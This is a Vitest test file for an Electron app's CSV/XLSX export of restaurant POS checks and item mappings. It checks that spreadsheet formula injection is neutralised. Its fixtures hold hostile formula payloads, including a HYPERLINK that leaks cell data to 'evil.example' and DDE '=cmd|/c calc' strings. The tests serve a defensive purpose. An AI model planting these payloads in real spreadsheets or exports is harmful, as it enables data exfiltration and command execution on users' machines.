import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  exportChecks,
  exportMapping,
  FORMULA_START,
  readMappingFile,
  safeCell,
} from '../../../electron/core/files';
import type { Check, CheckLine } from '../../../shared/domain/check';
import { item, readBack } from './helpers';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\u0001=cmd|/c calc',
];

const items = [
  item(1, '100', 'Adana Kebap Dürüm', 'ADK1'),
  item(2, '0101', 'Çiğ Köfte, "acılı"\nbüyük', ''),
  item(3, '-5', HOSTILE[0] ?? '', 'X1'),
  ...HOSTILE.slice(1).map((name, i) => item(10 + i, `H${i}`, name, '')),
];
const ignored = new Set([2]);

/** Every cell of a CSV export, parsed the way a spreadsheet would split it. */
function csvCells(bytes: Uint8Array): string[][] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder().decode(bytes.subarray(3));
  return Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: true }).data;
}

describe('safeCell', () => {
  it.each(HOSTILE.slice(0, 6))('neutralises %j', (text) => {
    expect(safeCell(text)).toBe(`'${text}`);
  });
  it('leaves ordinary text alone', () => {
    expect(safeCell('Adana = lezzet')).toBe('Adana = lezzet');
    expect(safeCell('')).toBe('');
  });
});

describe('exportMapping', () => {
  it.each(['csv', 'xlsx'] as const)('round-trips through readMappingFile (%s)', async (format) => {
    const bytes = await exportMapping(items, ignored, format);
    const rows = await readMappingFile(bytes, `mapping.${format}`);
    expect(rows).toEqual(
      items.map((it, i) => ({
        row: i + 2,
        itemId: String(it.itemId),
        itemNo: it.itemNo,
        // Control characters are dropped on export and the reader trims cells; the rest comes back.
        name: it.name.replace('\u0001', '').trim(),
        integrationCode: it.integrationCode,
        ignored: ignored.has(it.itemId),
      })),
    );
  });

  it('writes a UTF-8 BOM CSV with the agreed header, ids as plain numbers', async () => {
    const cells = csvCells(await exportMapping(items.slice(0, 2), ignored, 'csv'));
    expect(cells).toEqual([
      ['ItemId', 'ItemNo', 'Name', 'IntegrationCode', 'Ignored', 'Draft'],
      ['1', '100', 'Adana Kebap Dürüm', 'ADK1', 'no', 'no'],
      ['2', '0101', 'Çiğ Köfte, "acılı"\nbüyük', '', 'yes', 'no'],
    ]);
  });

  it('never lets a server value start a formula (CSV)', async () => {
    const cells = csvCells(await exportMapping(items, ignored, 'csv')).flat();
    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
    expect(cells).toContain("'-5");
  });

  it('never lets a server value start a formula (XLSX), ItemId stays a number, ItemNo text', async () => {
    const sheet = (await readBack(await exportMapping(items, ignored, 'xlsx'))).get('Mapping') ?? [];
    expect(sheet[1]).toEqual([1, '100', 'Adana Kebap Dürüm', 'ADK1', 'no', 'no']);
    for (const cell of sheet.flat()) {
      if (typeof cell === 'string') expect(cell).not.toMatch(FORMULA_START);
      else expect(cell === null || typeof cell === 'number').toBe(true);
    }
  });
});

const line = (name: string, over: Partial<CheckLine> = {}): CheckLine => ({
  itemId: 10,
  itemNo: '100',
  name,
  integrationCode: 'ADK1',
  quantity: 1,
  unitPrice: 250,
  total: 250,
  condiments: [],
  extra: {},
  ...over,
});

function check(over: Partial<Check>): Check {
  return {
    branch: 'B01',
    id: 5001,
    checkNumber: 17,
    businessDate: '2024-05-01T00:00:00',
    kind: 'sale',
    state: 'Closed',
    isReturn: false,
    info: 'Masa 4 - Ahmet',
    outletInfo: 'Salon',
    officialReceiptNumber: 'F-000123',
    tableNo: '4',
    orderType: 'Dine in',
    address: null,
    fiscal: null,
    invoice: null,
    lines: [
      line('Adana Dürüm', {
        condiments: [
          line('Acılı', { itemId: 11, itemNo: '900', integrationCode: '', unitPrice: 0, total: 0 }),
        ],
      }),
      line('Ayran', {
        itemId: 12,
        itemNo: '300',
        integrationCode: 'AY1',
        quantity: 2,
        unitPrice: 30,
        total: 60,
      }),
    ],
    discounts: [{ type: 'Discount', name: 'Personel', amount: 10, extra: {} }],
    payments: [
      { paymentType: 'Nakit', amount: 200, extra: {} },
      { paymentType: 'Kredi Kartı', amount: 100, extra: {} },
    ],
    totals: { items: 310, discounts: 10, payments: 300 },
    reconciles: true,
    extra: {},
    ...over,
  };
}

const checks = [
  check({}),
  check({
    id: 5002,
    checkNumber: 18,
    isReturn: true,
    info: '=cmd|"/c calc"!A0',
    officialReceiptNumber: '-1',
    lines: [line('Ayran', { quantity: -1, total: -30, unitPrice: 30 })],
    payments: [{ paymentType: '@Nakit', amount: -30, extra: {} }],
    totals: { items: -30, discounts: 0, payments: -30 },
  }),
];

describe('exportChecks', () => {
  it('XLSX has Checks, Item lines (condiments point at their parent), Payments and Discounts, numbers as numbers', async () => {
    const book = await readBack(await exportChecks(checks, 'xlsx'));
    expect([...book.keys()]).toEqual(['Checks', 'Item lines', 'Payments', 'Discounts']);
    const [header, first, ret] = book.get('Checks') ?? [];
    expect(header).toContain('Reconciles');
    expect(first?.slice(0, 6)).toEqual(['B01', null, new Date(Date.UTC(2024, 4, 1)), 17, 5001, 'sale']);
    const col = (name: string) => header?.indexOf(name) ?? -1;
    expect(first?.[col('Item total')]).toBe(310);
    expect(first?.[col('Payment types')]).toBe('Cash, Credit card');
    expect(first?.[col('Payment type codes')]).toBe('Nakit, Kredi Kartı');
    expect(first?.[col('Discount types')]).toBe('Personel (Discount)');
    expect(first?.[col('Item lines')]).toBe(3);
    expect(ret?.[col('Return')]).toBe('yes');
    expect(ret?.[col('Payments total')]).toBe(-30);
    expect(ret?.[col('Account info')]).toBe(`'=cmd|"/c calc"!A0`);
    expect(ret?.[col('Receipt no')]).toBe("'-1");

    const lines = book.get('Item lines') ?? [];
    const lh = lines[0] ?? [];
    const pick = (r: unknown[] | undefined, ...names: string[]) => names.map((n) => r?.[lh.indexOf(n)]);
    expect(
      lines.slice(1, 4).map((r) => pick(r, 'Line', 'Parent line', 'Line type', 'Name', 'Mapped')),
    ).toEqual([
      [1, null, 'item', 'Adana Dürüm', 'yes'],
      [2, 1, 'condiment', 'Acılı', 'no'],
      [3, null, 'item', 'Ayran', 'yes'],
    ]);
    expect(pick(lines[4], 'Quantity', 'Total')).toEqual([-1, -30]);
    const ph = (book.get('Payments') ?? [])[0] ?? [];
    const paid = (r: unknown[]) => [r[ph.indexOf('Payment type code')], r[ph.indexOf('Amount')]];
    expect((book.get('Payments') ?? []).slice(1).map(paid)).toEqual([
      ['Nakit', 200],
      ['Kredi Kartı', 100],
      ["'@Nakit", -30],
    ]);
    for (const cell of [...book.values()].flat(2)) {
      if (typeof cell === 'string') expect(cell).not.toMatch(FORMULA_START);
      // Only plain values: no formula, rich text or hyperlink cells.
      else if (cell !== null && !(cell instanceof Date)) expect(typeof cell).toBe('number');
    }
  });

  it('CSV gives one part (checks by default); negative amounts stay numbers, server text is neutralised', async () => {
    const main = csvCells(await exportChecks(checks, 'csv'));
    expect(main).toHaveLength(3);
    const header = main[0] ?? [];
    // Money with two decimals (the English default: '.'), so a column of amounts lines up.
    expect(main[2]?.[header.indexOf('Payments total')]).toBe('-30.00');
    expect(main[2]?.[header.indexOf('Business date')]).toBe('2024-05-01');
    const payments = csvCells(await exportChecks(checks, 'csv', 'payments'));
    const ph = payments[0] ?? [];
    const pay = (n: string) => (r: string[]) => r[ph.indexOf(n)];
    // The type as sent keeps its column (neutralised); the known ones are worded beside it.
    expect(
      payments.map((r) => ['Payment type code', 'Payment type', 'Amount'].map((n) => pay(n)(r))),
    ).toEqual([
      ['Payment type code', 'Payment type', 'Amount'],
      ['Nakit', 'Cash', '200.00'],
      ['Kredi Kartı', 'Credit card', '100.00'],
      ["'@Nakit", 'Cash', '-30.00'],
    ]);
    const lines = csvCells(await exportChecks(checks, 'csv', 'lines'));
    expect(lines).toHaveLength(5);
    const numeric = new Set([
      'Payments total',
      'Item total',
      'Discounts',
      'Amount',
      'Quantity',
      'Unit price',
      'Total',
    ]);
    for (const table of [main, payments, lines]) {
      const names = table[0] ?? [];
      for (const r of table.slice(1)) {
        r.forEach((cell, i) => {
          if (numeric.has(names[i] ?? '')) expect(Number.isFinite(Number(cell))).toBe(true);
          else expect(cell).not.toMatch(FORMULA_START);
        });
      }
    }
  });

  it('carries what the service sent: address, fiscal, invoice, times, each discount, parts not read, other fields', async () => {
    const full = check({
      address: { Name: 'Ayşe', City: 'İstanbul' },
      fiscal: { ZNo: 12, FNo: 345 },
      invoice: { InvoiceNo: 'E-1', InvoiceType: 'e-Arşiv' },
      openedAt: '2024-05-01 12:01:00',
      closedAt: '2024-05-01 12:40:00',
      extra: { WaiterName: 'Mehmet', GuestCount: 3, Till: 2 },
      discounts: [
        { type: 'Discount', name: 'Personel', amount: 10, extra: { DiscountTypeId: 2 } },
        { type: 'TaxDiscount', name: 'Tevkifat', amount: 1.5, extra: {} },
      ],
      payments: [{ paymentType: 'Nakit', amount: 300, extra: { CardBrand: null, PaymentTypeId: 1 } }],
      unreadable: [
        {
          what: 'payment',
          branch: 'B01',
          businessDate: '2024-05-01',
          reason: 'Amount: "x" is not a number',
          raw: '{"Amount":"x"}',
        },
      ],
    });
    const book = await readBack(await exportChecks([full], 'xlsx'));
    const [header, row] = book.get('Checks') ?? [];
    const col = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(JSON.parse(String(col('Address')))).toEqual({ Name: 'Ayşe', City: 'İstanbul' });
    expect(JSON.parse(String(col('Fiscal')))).toEqual({ ZNo: 12, FNo: 345 });
    expect(JSON.parse(String(col('Invoice')))).toEqual({ InvoiceNo: 'E-1', InvoiceType: 'e-Arşiv' });
    expect([col('Opened'), col('Closed')]).toEqual(['2024-05-01 12:01:00', '2024-05-01 12:40:00']);
    // Waiter and guests have columns of their own; the rest of what we do not model stays JSON.
    expect([col('Waiter'), col('Guests')]).toEqual(['Mehmet', 3]);
    expect(JSON.parse(String(col('Other fields')))).toEqual({ Till: 2 });
    expect(col('Could not be read')).toBe('payment: Amount: "x" is not a number: {"Amount":"x"}');
    expect(col('Reconciles')).toBe('could not reconcile: 1 payment unreadable');
    const discounts = book.get('Discounts') ?? [];
    const dh = discounts[0] ?? [];
    expect(
      discounts
        .slice(1)
        .map((r) =>
          ['Discount type code', 'Discount type', 'Name', 'Amount', 'Other fields'].map(
            (n) => r[dh.indexOf(n)],
          ),
        ),
    ).toEqual([
      ['Discount', 'Discount', 'Personel', 10, '{"DiscountTypeId":2}'],
      ['TaxDiscount', 'Tax discount', 'Tevkifat', 1.5, null],
    ]);
    const payments = book.get('Payments') ?? [];
    expect(payments[1]?.[(payments[0] ?? []).indexOf('Other fields')]).toBe('{"PaymentTypeId":1}');
    const csv = csvCells(await exportChecks([full], 'csv', 'discounts'));
    expect(csv).toHaveLength(3);
  });
});
